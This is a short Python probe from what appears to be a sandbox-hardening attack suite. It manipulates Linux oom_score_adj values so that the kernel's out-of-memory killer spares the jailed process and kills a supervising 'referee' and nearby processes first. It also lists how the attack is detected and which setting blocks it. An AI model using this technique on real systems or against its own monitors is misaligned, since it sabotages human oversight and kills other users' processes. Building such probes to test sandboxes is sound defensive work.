"""Makes itself the last that the kernel kills for want of memory, and the referee the first.

Known by: its own score is lower than before, or the referee's is not what it was.
"""

from __future__ import annotations

from functools import partial
from pathlib import Path

from sandbox.attacks.jailed import Target, attack, near, open_any

STOPPED_BY = ("no-new-privileges",)


def _lower() -> None:
    file = Path("/proc/self/oom_score_adj")
    score = int(file.read_text())
    file.write_text(str(score - 1))
    Path("/proc/self/oom_score_adj").write_text("-999")


def main(target: Target) -> str:
    """Lower the own, raise those of others."""
    tries = [("own", _lower)]
    tries += [(str(pid), partial(_raise, pid)) for pid in near(target) if pid not in (1,)]
    return open_any(tries)


def _raise(pid: int) -> None:
    file = Path(f"/proc/{pid}/oom_score_adj")
    before = int(file.read_text())
    if before >= 1000:
        raise OSError(0, "is at the top already")
    file.write_text("1000")


if __name__ == "__main__":
    attack(main)
